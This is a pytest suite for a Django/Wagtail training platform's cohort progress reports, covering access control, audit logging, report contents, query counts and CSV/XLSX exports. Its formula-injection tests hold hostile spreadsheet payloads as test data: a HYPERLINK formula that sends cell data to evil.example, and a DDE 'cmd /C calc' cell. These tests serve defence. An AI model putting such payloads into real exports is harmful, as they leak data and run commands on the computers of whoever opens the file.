"""Cohorts and their progress reports: who may see them, what they say, what they never say."""

import codecs
import csv
import io
import uuid
from datetime import date, timedelta

from django.contrib.auth.models import AnonymousUser
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import formats, timezone

from wagtail.users.models import UserProfile

import openpyxl
import pytest

from courses.factories import lessons_of, make_course, right_answers, wrong_answers
from courses.models import Cohort, Enrollment, LessonCompletion, QuizAttempt, ReflectionNote
from courses.quiz import submit_attempt
from courses.services import cohorts_visible_to, complete_lesson, enrol, save_note
from home.factories import UserFactory
from privacy.models import AuditEvent

pytestmark = pytest.mark.django_db

MISSED_QUESTION = "Que fait un·e pair-aidant·e face à un risque suicidaire ?"
NOTE = "Ce que j'ai vécu à l'hôpital, je ne l'ai jamais dit."


def make_cohort(modules=(), learners=(), trainers=(), name="Promotion printemps"):
    cohort = Cohort.objects.create(
        name=name, start_date=date(2026, 9, 1), end_date=date(2026, 12, 15)
    )
    cohort.modules.set(modules)
    cohort.members.set(learners)
    cohort.trainers.set(trainers)
    return cohort


def attempt(user, course, lesson, answers):
    post = QueryDict(mutable=True)
    for key, values in answers.items():
        post.setlist(key, values)
    post["submission"] = str(uuid.uuid4())
    return submit_attempt(user, course, lesson, post)


def report_url(cohort, export=None):
    if export:
        return reverse("cohorts:report_export", args=[cohort.pk, export])
    return reverse("cohorts:report", args=[cohort.pk])


def today():
    return formats.date_format(timezone.localdate(), "SHORT_DATE_FORMAT")


@pytest.fixture
def modules(section):
    catalogue = section("courses")
    return [
        make_course(catalogue, title="Écoute active"),
        make_course(catalogue, title="Passer le relais", lessons=2),
    ]


@pytest.fixture
def learners(modules):
    """Inès completed the first module and started the second; Jules failed a quiz once
    and has been quiet for 20 days; Léa never started."""
    listening, handing_over = modules
    ines = UserFactory(roles=["peer"], first_name="Inès", last_name="Aubert")
    jules = UserFactory(roles=["peer"], first_name="Jules", last_name="Bernard")
    lea = UserFactory(roles=["peer"], first_name="Léa", last_name="Caron")

    first, second, last = lessons_of(listening)
    enrol(ines, listening)
    complete_lesson(ines, listening, first)
    complete_lesson(ines, listening, second)
    attempt(ines, listening, last, right_answers(last))
    save_note(ines, listening, first, first.body[2].id, NOTE)
    enrol(ines, handing_over)
    complete_lesson(ines, handing_over, lessons_of(handing_over)[0])

    enrol(jules, listening)
    # Wrong on the first question, where he chose "Garde le secret", and on the last: one
    # slip alone would pass (courses.quiz.passes).
    wrong = list(wrong_answers(last).items())
    answers = {**right_answers(last), **dict([wrong[0], wrong[-1]])}
    assert not attempt(jules, listening, last, answers).passed
    Enrollment.objects.filter(user=jules).update(
        last_activity_at=timezone.now() - timedelta(days=20)
    )
    return ines, jules, lea


@pytest.fixture
def cohort(modules, learners, trainer):
    return make_cohort(modules, learners, trainers=[trainer])


@pytest.fixture
def other_cohort(modules):
    return make_cohort(modules, [UserFactory(roles=["peer"])], name="Promotion Est")


# Who may see cohorts


def test_cohorts_visible_to_each_role(cohort, other_cohort, trainer, coordinator, peer):
    assert set(cohorts_visible_to(coordinator)) == {cohort, other_cohort}
    assert list(cohorts_visible_to(trainer)) == [cohort]
    assert not cohorts_visible_to(peer).exists()
    assert not cohorts_visible_to(UserFactory(roles=["supervisor"])).exists()
    superuser = UserFactory(is_superuser=True)
    assert set(cohorts_visible_to(superuser)) == {cohort, other_cohort}


def test_a_named_trainer_without_the_role_sees_nothing(cohort):
    former = UserFactory(roles=["peer"])
    cohort.trainers.add(former)
    assert not cohorts_visible_to(former).exists()


def test_anonymous_and_inactive_members_see_no_cohort(cohort, trainer):
    assert not cohorts_visible_to(AnonymousUser()).exists()
    trainer.is_active = False
    assert not cohorts_visible_to(trainer).exists()


def admin_urls(cohort):
    return [
        reverse("cohorts:index"),
        reverse("cohorts:edit", args=[cohort.pk]),
        reverse("cohorts:delete", args=[cohort.pk]),
        report_url(cohort),
        report_url(cohort, "csv"),
        report_url(cohort, "xlsx"),
    ]


def test_anonymous_visitors_are_asked_to_log_in(client, cohort):
    for url in admin_urls(cohort):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("login")), url


@pytest.mark.parametrize("role", ["peer", "supervisor"])
def test_peers_and_supervisors_are_refused(client, cohort, role):
    client.force_login(UserFactory(roles=[role]))
    index, edit, delete, *report_and_exports = admin_urls(cohort)
    for url in [index, edit]:  # no cohort permission: sent back to the admin's home
        response = client.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert response["Location"] == reverse("wagtailadmin_home"), url
    # Views that look the cohort up first find nothing: no existence oracle.
    for url in [delete, *report_and_exports]:
        assert client.get(url).status_code == 404, url
    client.post(edit, {"name": "Renommée"})
    client.post(delete)
    cohort.refresh_from_db()
    assert cohort.name == "Promotion printemps"


def test_a_trainer_does_not_reach_a_cohort_they_do_not_train(client, cohort, other_cohort, trainer):
    client.force_login(trainer)
    listing = client.get(reverse("cohorts:index")).content.decode()
    assert cohort.name in listing and other_cohort.name not in listing
    for url in admin_urls(other_cohort)[1:]:
        assert client.get(url).status_code == 404, url
    for view in ["history", "usage"]:
        url = reverse(f"cohorts:{view}", args=[other_cohort.pk])
        assert client.get(url).status_code == 404, url
    response = client.post(reverse("cohorts:edit", args=[other_cohort.pk]), {"name": "Renommée"})
    assert response.status_code == 404
    other_cohort.refresh_from_db()
    assert other_cohort.name == "Promotion Est"


def test_a_refused_cohort_report_or_export_goes_to_the_audit_log(client, other_cohort, trainer):
    client.force_login(trainer)
    urls = [
        reverse("cohorts:report", args=[other_cohort.pk]),
        reverse("cohorts:report_export", args=[other_cohort.pk, "csv"]),
    ]
    for url in urls:
        assert client.get(url).status_code == 404
    events = AuditEvent.objects.filter(action=AuditEvent.DENIED, actor=trainer)
    assert [event.object_id for event in events] == [str(other_cohort.pk)] * 2


def test_a_trainer_changes_their_cohort_but_neither_adds_nor_deletes(
    client, cohort, modules, trainer
):
    client.force_login(trainer)
    assert client.get(reverse("cohorts:add")).status_code in (302, 403)
    client.post(reverse("cohorts:delete", args=[cohort.pk]))
    assert Cohort.objects.filter(pk=cohort.pk).exists()

    edit_url = reverse("cohorts:edit", args=[cohort.pk])
    assert client.get(edit_url).status_code == 200
    data = {
        "name": "Promotion printemps 2027",
        "description": "",
        "start_date": "2027-03-01",
        "end_date": "2027-06-30",
        "modules": [m.pk for m in modules],
        "trainers": [trainer.pk],
        "members": [learner.pk for learner in cohort.members.all()],
    }
    assert client.post(edit_url, data).status_code == 302
    cohort.refresh_from_db()
    assert cohort.name == "Promotion printemps 2027"


def test_a_coordinator_manages_every_cohort(client, cohort, other_cohort, modules, coordinator):
    client.force_login(coordinator)
    listing = client.get(reverse("cohorts:index")).content.decode()
    assert cohort.name in listing and other_cohort.name in listing
    assert f'href="{report_url(cohort)}"' in listing
    found = client.get(reverse("cohorts:index") + "?q=Est").content.decode()
    assert other_cohort.name in found and cohort.name not in found
    for url in admin_urls(cohort) + admin_urls(other_cohort):
        assert client.get(url).status_code == 200, url
    assert client.get(report_url(cohort, "pdf")).status_code == 404
    assert client.get(reverse("cohorts:report", args=[cohort.pk + 1000])).status_code == 404

    response = client.post(
        reverse("cohorts:add"),
        {
            "name": "Promotion hiver",
            "start_date": "2027-01-10",
            "end_date": "2027-03-31",
            "modules": [modules[0].pk],
        },
    )
    assert response.status_code == 302
    assert Cohort.objects.get(name="Promotion hiver").modules.get() == modules[0]
    client.post(reverse("cohorts:delete", args=[other_cohort.pk]))
    assert not Cohort.objects.filter(pk=other_cohort.pk).exists()


def test_a_cohort_ends_after_it_starts(client, coordinator):
    client.force_login(coordinator)
    data = {"name": "À l'envers", "start_date": "2027-03-01", "end_date": "2027-01-01"}
    response = client.post(reverse("cohorts:add"), data)
    assert response.status_code == 200
    assert not Cohort.objects.filter(name="À l'envers").exists()


# What the report says


@pytest.fixture
def report(client, cohort, trainer):
    client.force_login(trainer)
    response = client.get(report_url(cohort))
    assert response.status_code == 200
    return response.content.decode()


def row_of(page, name):
    start = page.index(f'<th scope="row">{name}</th>')
    return page[start : page.index("</tr>", start)]


def test_the_matrix_gives_each_learners_state_in_each_module(report):
    assert "Écoute active" in report and "Passer le relais" in report
    ines, jules = row_of(report, "Inès Aubert"), row_of(report, "Jules Bernard")
    assert f"Terminé ({today()})" in ines and "En cours (50 %)" in ines
    assert "En cours (0 %)" in jules and "Pas commencé" in jules
    assert row_of(report, "Léa Caron").count("Pas commencé") == 2


def test_the_most_missed_question_comes_first(report):
    section = report[report.index('id="questions-heading"') :]
    body = section[section.index("<tbody>") :]
    first_row = body[: body.index("</tr>")]
    assert MISSED_QUESTION in first_row
    assert "50 %" in first_row and "<td>2</td>" in first_row


def test_quiet_learners_are_listed_with_their_last_activity(report):
    section = report[report.index('id="inactive-heading"') :]
    twenty_days_ago = timezone.localdate() - timedelta(days=20)
    assert formats.date_format(twenty_days_ago, "SHORT_DATE_FORMAT") in row_of(
        section, "Jules Bernard"
    )
    assert "Jamais commencé" in row_of(section, "Léa Caron")
    assert "Inès Aubert" not in section


def test_the_chart_has_a_text_alternative(report):
    svg = report[report.index('<svg class="cohort-report__chart') :]
    svg = svg[: svg.index("</svg>")]
    assert 'role="img"' in svg and "<title" in svg and "<desc" in svg
    assert "Écoute active : 33 %" in svg  # Inès completed it, Jules and Léa not yet
    table = report[report.index("</svg>", report.index("cohort-report__chart")) :]
    assert "<caption>" in table and "Écoute active" in row_of(table, "Écoute active")
    assert "1 sur 3" in row_of(table, "Écoute active")


def test_no_note_and_no_chosen_answer_leaves_in_the_report(client, report, cohort):
    # Notes are encrypted at rest: compared in Python, not in the database.
    assert any(note.text == NOTE for note in ReflectionNote.objects.all())
    exports = [client.get(report_url(cohort, name)).content for name in ("csv", "xlsx")]
    workbook = openpyxl.load_workbook(io.BytesIO(exports[1]))
    xlsx_text = " ".join(str(v) for row in workbook.active.values for v in row)
    for text in [report, exports[0].decode("utf-8-sig"), xlsx_text]:
        assert NOTE not in text
        assert "Garde le secret" not in text  # the option Jules chose


def test_the_csv_export_opens_with_accents_in_spreadsheets(client, cohort, trainer):
    client.force_login(trainer)
    response = client.get(report_url(cohort, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(codecs.BOM_UTF8)
    text = response.content.decode("utf-8-sig")
    # French spreadsheets split on semicolons (their decimal separator is the comma).
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Apprenant·e", "Écoute active", "Passer le relais"]
    assert rows[1] == ["Inès Aubert", f"Terminé ({today()})", "En cours (50 %)"]
    assert rows[3] == ["Léa Caron", "Pas commencé", "Pas commencé"]


def test_the_xlsx_export_holds_the_same_table(client, cohort, trainer):
    client.force_login(trainer)
    response = client.get(report_url(cohort, "xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert rows[0] == ("Apprenant·e", "Écoute active", "Passer le relais")
    assert rows[2] == ("Jules Bernard", "En cours (0 %)", "Pas commencé")


def test_the_report_follows_the_admin_language(client, cohort, trainer):
    profile = UserProfile.get_for_user(trainer)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(trainer)
    page = client.get(report_url(cohort)).content.decode()
    assert "Écoute active (en)" in page
    assert "Not started" in row_of(page, "Léa Caron")


def test_an_empty_cohort_has_a_report_too(client, coordinator):
    client.force_login(coordinator)
    response = client.get(report_url(make_cohort()))
    assert response.status_code == 200


# Query budget


def add_learners(cohort, modules, count):
    """``count`` learners with an enrolment, a completed lesson and a quiz attempt each."""
    learners = [UserFactory(roles=["peer"]) for _ in range(count)]
    cohort.members.add(*learners)
    for course in modules:
        first, *_rest, last = lessons_of(course)
        results = {q.id: True for q in last.quiz.value["questions"].bound_blocks}
        for learner in learners:
            key = course.translation_key
            Enrollment.objects.create(user=learner, course_key=key)
            LessonCompletion.objects.create(
                user=learner, course_key=key, lesson_key=first.translation_key
            )
            QuizAttempt.objects.create(
                user=learner,
                course_key=key,
                lesson_key=last.translation_key,
                quiz_id=last.quiz.id,
                answers={},
                results=results,
                score=100,
                passed=True,
            )


def queries_for(client, url):
    client.get(url)  # warm up caches that do not depend on the cohort
    with CaptureQueriesContext(connection) as context:
        response = client.get(url)
    assert response.status_code == 200
    return len(context.captured_queries)


@pytest.mark.parametrize("role", ["trainer", "coordinator"])
def test_the_report_costs_the_same_queries_for_3_or_30_learners(client, modules, role):
    user = UserFactory(roles=[role])
    small, large = make_cohort(modules, trainers=[user]), make_cohort(modules, trainers=[user])
    add_learners(small, modules, 3)
    add_learners(large, modules, 30)
    client.force_login(user)

    for export in [None, "csv", "xlsx"]:
        few = queries_for(client, report_url(small, export))
        many = queries_for(client, report_url(large, export))
        assert few == many <= 20, f"{export or 'html'}: {few} queries for 3, {many} for 30"


# Exports never carry a formula (CSV/formula injection)

HOSTILE_NAMES = [
    ('=HYPERLINK("https://evil.example/?x="&A1', "Cliquez"),
    ("+33 6 12", "Plus"),
    ("-2+3", "Moins"),
    ("@SUM(A1:A9)", "Arobase"),
    ("\tTab", "Tab"),
    ("\rRetour", "Retour"),
]


@pytest.fixture
def hostile_cohort(modules, trainer):
    learners = [
        UserFactory(roles=["peer"], first_name=first, last_name=last)
        for first, last in HOSTILE_NAMES
    ]
    for learner, module in zip(learners, modules * 3, strict=False):
        enrol(learner, module)
    return make_cohort(modules, learners, trainers=[trainer], name="=cmd|' /C calc'!A0")


def test_the_csv_export_of_an_english_reader_is_separated_by_commas(client, cohort, trainer):
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(trainer)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(trainer)
    text = client.get(report_url(cohort, "csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Learner" and len(rows[0]) == 3


def test_the_csv_export_neutralises_cells_that_start_a_formula(client, hostile_cohort, trainer):
    client.force_login(trainer)
    response = client.get(report_url(hostile_cohort, "csv"))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("https://evil.example/?x="&A1 Cliquez' in names
    assert "'+33 6 12 Plus" in names and "'@SUM(A1:A9) Arobase" in names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_xlsx_export_holds_no_formula(client, hostile_cohort, trainer):
    client.force_login(trainer)
    response = client.get(report_url(hostile_cohort, "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert '\'=HYPERLINK("https://evil.example/?x="&A1 Cliquez' in names


def test_safe_cell_leaves_ordinary_values_alone():
    from home.spreadsheets import safe_cell

    assert safe_cell("Inès Aubert") == "Inès Aubert"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\r=1") == "'\r=1"


def test_wagtail_report_exports_are_neutralised_too(client, section):
    """Wagtail's own exports (here the aging-pages report) go through the same function."""
    from django.contrib.auth import get_user_model

    page = make_course(section("courses"), title="=HYPERLINK(evil)", lessons=0, translate=False)
    admin = get_user_model().objects.create_superuser("root-export", "r@example.org", "x" * 16)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert page.title in text
    assert "'=HYPERLINK(evil)" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_the_site_history_names_only_the_trainers_cohorts(
    client, cohort, other_cohort, trainer, coordinator
):
    from wagtail.log_actions import log

    for each in (cohort, other_cohort):
        log(each, "wagtail.edit", user=coordinator)
    client.force_login(trainer)
    page = client.get("/admin/reports/site-history/").content.decode()
    assert cohort.name in page and other_cohort.name not in page
    client.force_login(coordinator)
    page = client.get("/admin/reports/site-history/").content.decode()
    assert cohort.name in page and other_cohort.name in page


# The report's work: the same page with less of it

# The quiet learners' rows as the report's template wrote them before ``quiet_learner_rows``.
QUIET_ROWS_AS_TEMPLATE = """{% load i18n %}{% for learner, last_activity in report.inactive %}
<tr>
    <th scope="row">{{ learner.get_full_name|default:learner.get_username }}</th>
    <td>{% if last_activity %}{{ last_activity|date:"SHORT_DATE_FORMAT" }}{% else %}{% translate "Never started" %}{% endif %}</td>
    {% if sends_kind_words %}<td>{% if learner.is_active %}<a href="{% url kind_word_url_name cohort.pk learner.pk %}">{% blocktranslate with name=learner.get_full_name|default:learner.get_username %}Send {{ name }} a kind word{% endblocktranslate %}</a>{% endif %}</td>{% endif %}
</tr>{% endfor %}"""  # noqa: E501


def without_layout(html):
    return "".join(line.strip() for line in html.splitlines())


@pytest.mark.parametrize("sends_kind_words", [True, False])
def test_the_quiet_learners_rows_say_what_the_template_said(cohort, sends_kind_words):
    from django.template import Context, Template
    from django.utils import translation

    from courses.cohorts import cohort_report
    from courses.templatetags.courses_tags import quiet_learner_rows

    gone = UserFactory(roles=["peer"], first_name="<b>Zoé</b>", is_active=False)
    hostile = [UserFactory(first_name=first, last_name=last) for first, last in HOSTILE_NAMES]
    cohort.members.add(gone, *hostile)
    with translation.override("fr"):
        report = cohort_report(cohort)
        context = {
            "report": report,
            "cohort": cohort,
            "kind_word_url_name": "cohorts:kind_word",
            "sends_kind_words": sends_kind_words,
        }
        expected = Template(QUIET_ROWS_AS_TEMPLATE).render(Context(context))
        rows = quiet_learner_rows(report, "cohorts:kind_word", sends_kind_words)
    assert len(report.inactive) == 3 + len(HOSTILE_NAMES)
    assert without_layout(rows) == without_layout(expected)
    assert "&lt;b&gt;Zoé&lt;/b&gt;" in rows and "<b>" not in rows


def test_the_kind_word_addresses_are_reversed_once():
    from unittest import mock

    from courses.templatetags import courses_tags

    ids = [1, 7, 42, 10_000, 987654321]
    with mock.patch.object(courses_tags, "reverse", wraps=reverse) as reversed_:
        addresses = courses_tags.addresses_of("cohorts:kind_word", [12], ids)
    assert reversed_.call_count == 1
    assert addresses == {pk: reverse("cohorts:kind_word", args=[12, pk]) for pk in ids}


def test_the_progress_rows_give_each_cell_its_sentence(cohort):
    from django.utils import translation
    from django.utils.html import escape

    from courses.cohorts import cohort_report
    from courses.templatetags.courses_tags import progress_rows

    with translation.override("fr"):
        report = cohort_report(cohort)
        rows = progress_rows(report).splitlines()
        for (learner, cells), row in zip(report.rows, rows, strict=True):
            expected = "".join(f"<td>{escape(str(cell))}</td>" for cell in cells)
            assert (
                row == f'<tr><th scope="row">{escape(learner.get_full_name())}</th>{expected}</tr>'
            )


def test_cells_alike_are_made_once(cohort):
    from courses.cohorts import cohort_report

    report = cohort_report(cohort)
    lea_cells = dict(report.rows)[cohort.members.get(first_name="Léa")]
    jules_cells = dict(report.rows)[cohort.members.get(first_name="Jules")]
    assert lea_cells[0] is lea_cells[1] is jules_cells[1]  # "Not started", made once


def test_attempts_with_the_same_results_each_count(cohort, modules):
    from courses.cohorts import cohort_report

    listening = modules[0]
    last = lessons_of(listening)[-1]
    ines = cohort.members.get(first_name="Inès")
    for _ in range(2):  # two more attempts alike: Inès's answers, all right
        QuizAttempt.objects.create(
            user=ines,
            course_key=listening.translation_key,
            lesson_key=last.translation_key,
            quiz_id=last.quiz.id,
            answers={},
            results=QuizAttempt.objects.filter(user=ines).first().results,
            score=100,
            passed=True,
        )
    stats = {stat.question: stat for stat in cohort_report(cohort).questions}
    missed = stats[MISSED_QUESTION]
    # Inès right three times, Jules wrong once.
    assert (missed.answered, missed.right, missed.percent_right) == (4, 3, 75)


# The chart's and tables' rows as the templates wrote them before the tags of courses_tags.
CHART_AS_TEMPLATE = """{% load i18n %}<desc id="completion-desc">{% for row in report.completion %}{% blocktranslate trimmed with module=row.module.title percent=row.percent %}{{ module }}: {{ percent }}%{% endblocktranslate %}{% if not forloop.last %}; {% else %}.{% endif %}{% endfor %}</desc>
    {% for row in report.completion %}
        <text x="16" y="{{ row.y|add:16 }}" fill="#1d2428">{{ row.module.title|truncatechars:80 }}</text>
        <rect x="16" y="{{ row.y|add:24 }}" width="{{ chart_bar_width }}" height="16" rx="3" fill="#e8f0ec" stroke="#7fa391"/>
        {% if row.width %}<rect x="16" y="{{ row.y|add:24 }}" width="{{ row.width }}" height="16" rx="3" fill="#1f5f8b"/>{% endif %}
        <text x="{{ chart_bar_width|add:26 }}" y="{{ row.y|add:37 }}" fill="#1d2428">{% blocktranslate with percent=row.percent %}{{ percent }}%{% endblocktranslate %}</text>
    {% endfor %}
        {% for row in report.completion %}
            <tr>
                <th scope="row">{{ row.module.title }}</th>
                <td>{% blocktranslate with completed=row.completed total=report.learner_count %}{{ completed }} of {{ total }}{% endblocktranslate %}</td>
                <td>{% blocktranslate with percent=row.percent %}{{ percent }}%{% endblocktranslate %}</td>
            </tr>
        {% endfor %}
                        {% for stat in report.questions %}
                            <tr>
                                <th scope="row">{{ stat.question }}</th>
                                <td>{{ stat.module }} — {{ stat.lesson }}</td>
                                <td>{{ stat.answered }}</td>
                                <td>{% blocktranslate with percent=stat.percent_right %}{{ percent }}%{% endblocktranslate %}</td>
                            </tr>
                        {% endfor %}"""  # noqa: E501

CHART_AS_TAGS = """{% load courses_tags %}<desc id="completion-desc">{% completion_summary report %}</desc>
    {% completion_bars report chart_bar_width %}
        {% completion_rows report %}
                        {% question_rows report %}"""  # noqa: E501


@pytest.mark.parametrize("language", ["fr", "en"])
def test_the_chart_and_figures_say_byte_for_byte_what_the_templates_said(cohort, language):
    from django.template import Context, Template
    from django.utils import translation

    from courses.cohorts import CHART_BAR_WIDTH, QuestionStats, cohort_report

    with translation.override(language):
        report = cohort_report(cohort)
        # A title to escape and to cut in the chart; a question, a module, a lesson to escape.
        report.modules[0].title = '<b>"Écoute" & relance</b> ' + "très longue " * 10
        report.questions.append(QuestionStats("<i>M</i>", "L & <s>", "Q <script>", 1234, 617))
        assert report.completion[1].width == 0 and report.completion[0].width  # both kinds of bar
        context = {"report": report, "chart_bar_width": CHART_BAR_WIDTH}
        expected = Template(CHART_AS_TEMPLATE).render(Context(context))
        written = Template(CHART_AS_TAGS).render(Context(context))
    assert written == expected
    assert "&lt;script&gt;" in written and "<script>" not in written
    assert "&lt;b&gt;&quot;Écoute&quot; &amp; relance&lt;/b&gt;" in written


def test_the_report_s_data_costs_four_queries_whatever_the_cohort(
    cohort, modules, django_assert_num_queries
):
    """The learners, the modules' keys, the enrolments with their required lessons done (one
    query), the quiz attempts' results counted alike."""
    from courses.cohorts import cohort_report

    add_learners(cohort, modules, 2)
    cohort_report(cohort)  # the training structure and the quiz questions, once per worker
    with django_assert_num_queries(4):
        cohort_report(cohort)
    add_learners(cohort, modules, 5)
    with django_assert_num_queries(4):
        cohort_report(cohort)


def test_a_trainer_of_no_cohort_finds_no_report(client, cohort):
    trainer = UserFactory(roles=["trainer"])
    client.force_login(trainer)
    for url in [report_url(cohort), report_url(cohort, "csv"), report_url(cohort, "xlsx")]:
        assert client.get(url).status_code == 404, url
    denied = AuditEvent.objects.filter(action=AuditEvent.DENIED, actor=trainer)
    assert denied.count() == 3
